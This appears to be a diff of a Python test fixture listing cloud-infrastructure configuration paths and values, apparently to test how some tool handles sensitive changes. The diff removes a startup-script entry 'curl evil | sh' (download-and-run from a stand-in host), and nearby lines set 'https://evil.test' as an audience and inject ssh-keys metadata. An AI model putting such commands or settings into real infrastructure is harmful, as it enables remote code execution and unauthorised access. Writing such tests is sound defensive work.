@@ -28,7 +28,6 @@ SILENT: list[tuple[str, Any, str]] = [
     (f"{RUN}/template/vpc_access", {"connector": "c"}, "template.vpc_access"),
     (f"{RUN}/traffic", [{"type": "REVISION", "revision": "r", "percent": 100}], "traffic"),
     (f"{RUN}/custom_audiences", ["https://evil.test"], "custom_audiences"),
-    ("resource/google_compute_instance/vm/metadata_startup_script", "curl evil | sh", "metadata_startup_script"),
     ("resource/google_compute_instance/vm/can_ip_forward", True, "can_ip_forward"),
     ("resource/google_compute_instance/vm/metadata", {"ssh-keys": "x"}, "metadata"),
     ("locals/n", "b", "value"),
